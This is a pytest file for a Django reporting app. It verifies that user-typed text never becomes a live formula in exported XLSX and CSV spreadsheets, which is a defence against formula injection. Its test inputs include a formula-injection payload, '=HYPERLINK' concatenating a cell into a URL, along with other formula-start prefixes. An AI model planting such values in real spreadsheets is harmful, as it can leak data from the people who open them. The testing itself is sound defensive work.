"""Every spreadsheet the app writes keeps typed text as text: the partner pages' exports (XLSX
and CSV), the import template, and the reports' workbooks in every language.

Partners and coordinators type free text (a late justification, an expense's description, a
workpackage's title…) that reaches spreadsheets opened in Excel by the consortium's finance
officers and by the region. Text that starts like a formula (`=HYPERLINK(...)`, `+`, `-`, `@`, a
tab, a carriage return) must open as that text, never as a formula, and read back exactly as it
was typed; CSV cells carry the leading quote that stops Excel from evaluating them.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from consortium.models import Consortium, CostCategory, Organisation
from reporting import spreadsheets
from reporting.choices import ReportKind
from reporting.rendering import report_render
from reporting.selectors import jobs_report, progress_report
from tests import factories
from tests.api.conftest import PDF
from tests.reporting.conftest import PERIOD, at
from tests.web import client_for
from workpackages.jobs.models import JobRecord
from workpackages.money.models import Expense
from workpackages.money.services import expense_reject, expense_submit
from workpackages.workplan.models import (
    Deliverable,
    DeliverableReview,
    DeliverableSubmission,
    Milestone,
    Workpackage,
)
from workpackages.workplan.services import deliverable_request_changes, deliverable_submit

pytestmark = pytest.mark.django_db

# What makes a spreadsheet read a cell as a formula, written down here rather than imported from
# the code under test.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# One way of starting like a formula each; `marker` names the field the text was typed in.
TYPINGS: dict[str, Callable[[str], str]] = {
    "hyperlink": lambda marker: f'=HYPERLINK("http://x/?"&B2,"{marker}")',
    "plus": lambda marker: f"+{marker}",
    "minus": lambda marker: f"-{marker}",
    "at": lambda marker: f"@{marker}",
    "tab": lambda marker: f"\t{marker}",
    "carriage-return": lambda marker: f"\r{marker}\r\nsecond line",
}

# Every free-text field a partner or a coordinator types.
TYPED_FIELDS: dict[type[models.Model], tuple[str, ...]] = {
    Consortium: ("name", "funder"),
    Organisation: ("legal_name", "short_name", "city"),
    CostCategory: ("name",),
    Workpackage: ("title", "objectives"),
    Deliverable: ("title", "description", "late_justification"),
    DeliverableSubmission: ("note",),
    DeliverableReview: ("comment",),
    Milestone: ("title", "means_of_verification", "evidence"),
    Expense: ("description", "invoice_reference", "review_comment"),
    JobRecord: ("position_title", "evidence_note"),
}


def marker(model: type[models.Model], field: str) -> str:
    return f"x-{model._meta.model_name}-{field}"


def _rows_of(model: type[models.Model], consortium: Consortium) -> Any:
    if model is Consortium:
        return Consortium.objects.filter(pk=consortium.pk)
    if model is Organisation:
        return Organisation.objects.filter(partnerships__consortium=consortium)
    if model in (DeliverableSubmission, DeliverableReview):
        return model._default_manager.filter(deliverable__consortium=consortium)
    return model._default_manager.filter(consortium=consortium)


def type_everywhere(consortium: Consortium, typing: Callable[[str], str]) -> dict[str, str]:
    """Type text made by `typing` in every free-text field of every row of `consortium`, each
    row validated before it is saved; the text typed, by marker."""
    typed: dict[str, str] = {}
    for model, fields in TYPED_FIELDS.items():
        rows = list(_rows_of(model, consortium))
        assert rows, f"no {model.__name__} to type in"
        for row in rows:
            for field in fields:
                setattr(row, field, typing(marker(model, field)))
            row.full_clean()
            row.save(update_fields=list(fields))
        typed.update({marker(model, field): typing(marker(model, field)) for field in fields})
    return typed


@pytest.fixture
def workplan(
    consortium: Any,
    plan: dict[str, Any],
    budget_line: Any,
    job: Any,
    partner_member: Any,
    coordinator: Any,
) -> Consortium:
    """The report tests' work plan, with a rejected expense, a draft one, a deliverable sent
    back with a review comment, and a job with its evidence: a row behind every free-text field."""
    rejected = factories.ExpenseFactory(line=budget_line, amount=Decimal("80.00"))
    expense_submit(expense=rejected, user=partner_member)
    expense_reject(expense=rejected, user=coordinator, comment="No invoice.")
    factories.ExpenseFactory(line=budget_line, amount=Decimal("45.50"))
    sent_back = plan["next_month"]
    deliverable_submit(
        deliverable=sent_back,
        user=partner_member,
        file=ContentFile(PDF, name="d14.pdf"),
        late_justification="Supplier strike.",
        now=at(PERIOD[1]),
    )
    deliverable_request_changes(
        deliverable=sent_back, user=coordinator, comment="Add the batch records."
    )
    JobRecord.objects.filter(pk=job.pk).update(evidence_note="Signed contract.")
    return consortium


def body(response: Any) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content) if response.streaming else response.content


def every_file(
    partner_member: Any, consortium: Consortium, languages: list[str] | None = None
) -> dict[str, bytes]:
    """Every spreadsheet the app writes, by name: the partner's exports as the partner pages
    send them, the import template, and the reports in `languages` (all shipped ones by
    default)."""
    client = client_for(partner_member)
    files = {
        f"{name}.{fmt}": body(client.get(reverse(name, args=[fmt])))
        for name in ("expense-export", "job-export")
        for fmt in ("xlsx", "csv")
    }
    files["expense-import-template.csv"] = body(client.get(reverse("expense-import-template")))
    for kind in ReportKind:
        for rendered in report_render(
            kind=kind,
            consortium=consortium,
            period_start=PERIOD[0],
            period_end=PERIOD[1],
            languages=languages,
        ):
            files[f"{kind}-report-{rendered.language}.xlsx"] = rendered.xlsx
    return files


def xlsx_texts(name: str, data: bytes) -> list[str]:
    """The text cells of a workbook, after checking that none is, or would edit into, a
    formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[\s>/]", archive.read(part)), (name, part)
    texts = []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = (name, sheet.title, cell.coordinate, cell.value)
                assert cell.data_type != "f", where
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", where
                    if cell.value.startswith(FORMULA_STARTS):
                        # Excel's quote prefix: editing the cell keeps it text.
                        assert cell.quotePrefix, where
                    texts.append(cell.value)
    return texts


def csv_texts(name: str, data: bytes) -> list[str]:
    """The cells of a CSV file, after checking that none starts like a formula."""
    assert data.startswith(b"\xef\xbb\xbf"), name
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    texts = [cell for row in reader for cell in row]
    for text in texts:
        assert not text.startswith(FORMULA_STARTS), (name, text)
    return texts


def texts_of(name: str, data: bytes) -> list[str]:
    return xlsx_texts(name, data) if name.endswith(".xlsx") else csv_texts(name, data)


def expected(typed: dict[str, str], name: str) -> set[str]:
    """Cells that hold typed text in each file, whole or after a partner's or a workpackage's
    number: proof that the checks above looked at the typed text."""

    def text(model: type[models.Model], field: str) -> str:
        return typed[marker(model, field)]

    exports = {
        "expense-export": {
            text(Expense, "description"),
            text(Expense, "invoice_reference"),
            text(CostCategory, "name"),
        },
        "job-export": {text(JobRecord, "position_title"), text(JobRecord, "evidence_note")},
    }
    partner = f"P1 {text(Organisation, 'short_name')}"
    reports = {
        ReportKind.PROGRESS: {
            text(Deliverable, "title"),
            text(Deliverable, "late_justification"),
            partner,
            f"WP1 {text(Workpackage, 'title')}",
        },
        ReportKind.JOBS: {partner},
    }
    stem, fmt = name.rsplit(".", 1)
    if stem in exports:
        return exports[stem] if fmt == "xlsx" else {"'" + value for value in exports[stem]}
    for kind, values in reports.items():
        if stem.startswith(f"{kind}-report-"):
            return values
    return set()


@pytest.mark.parametrize("typing", TYPINGS)
def test_typed_text_stays_text_in_every_spreadsheet(
    workplan: Consortium, partner_member: Any, typing: str
) -> None:
    typed = type_everywhere(workplan, TYPINGS[typing])

    # The reports' cells of typed text are the same in every language: one is enough here (the
    # test below reads every language's).
    files = every_file(partner_member, workplan, languages=["en"])

    assert set(files) == {
        "expense-export.xlsx",
        "expense-export.csv",
        "job-export.xlsx",
        "job-export.csv",
        "expense-import-template.csv",
        *(f"{kind}-report-en.xlsx" for kind in ReportKind),
    }
    for name, data in files.items():
        texts = texts_of(name, data)
        assert expected(typed, name) <= set(texts), name
        for text in texts:
            for field, value in typed.items():
                if field in text:
                    # Exactly as typed: no character lost or changed, however it starts.
                    assert value in text, (name, field, text)


def test_control_characters_are_left_out_of_every_workbook(
    workplan: Consortium, partner_member: Any
) -> None:
    """Characters the file's XML can't hold (a bell, an escape) are dropped, not fatal."""
    Deliverable.objects.filter(consortium=workplan).update(
        title="QC\x07 protocol", late_justification="Audit\x1b moved\x0b."
    )
    Expense.objects.filter(consortium=workplan).update(description="Culture\x01 media")
    JobRecord.objects.filter(consortium=workplan).update(position_title="QC\x08 analyst")

    files = every_file(partner_member, workplan)

    languages = [code for code, _label in settings.LANGUAGES]
    assert {
        f"{kind}-report-{language}.xlsx" for kind in ReportKind for language in languages
    } <= set(files)
    texts = {name: texts_of(name, data) for name, data in files.items()}
    for language in languages:
        assert {"QC protocol", "Audit moved."} <= set(texts[f"progress-report-{language}.xlsx"])
    assert "Culture media" in texts["expense-export.xlsx"]
    assert "QC analyst" in texts["job-export.xlsx"]


def test_the_report_workbooks_keep_their_layout(
    consortium: Any, plan: dict[str, Any], job: Any
) -> None:
    """Several sheets, bold headers, columns as wide as their values, amounts as money."""
    progress = load_workbook(
        io.BytesIO(
            spreadsheets.progress_workbook(
                progress_report(consortium, period_start=PERIOD[0], period_end=PERIOD[1])
            )
        )
    )
    jobs = load_workbook(
        io.BytesIO(spreadsheets.jobs_workbook(jobs_report(consortium, as_of=PERIOD[1])))
    )

    assert progress.sheetnames == [
        "Budget by partner",
        "Budget by workpackage",
        "Due in the period",
        "Late deliverables",
        "Due next",
        "Workpackages",
        "Effort",
    ]
    assert jobs.sheetnames == [
        "Totals",
        "By partner",
        "By category",
        "By contract",
        "By workpackage",
        "Trajectory",
    ]
    for sheet in (*progress.worksheets, *jobs.worksheets):
        assert all(cell.font.bold for cell in sheet[1]), sheet.title
    budget = progress["Budget by partner"]
    name, planned, granted, consumed, consumption, _overspent = budget[2]
    assert name.value == "P1 BioWin"
    assert {cell.number_format for cell in (planned, granted, consumed)} == {"#,##0.00"}
    assert planned.data_type == consumed.data_type == "n"
    assert consumption.number_format == "0.0"
    late = progress["Late deliverables"]
    assert late["D2"].is_date
    titles = [plan["open_late"].title, plan["sent_late"].title]
    assert [cell.value for cell in late["B"][1:]] == titles
    assert late.column_dimensions["B"].width == max(len(title) for title in titles) + 2
    assert jobs["Totals"]["C2"].number_format == "0.00"
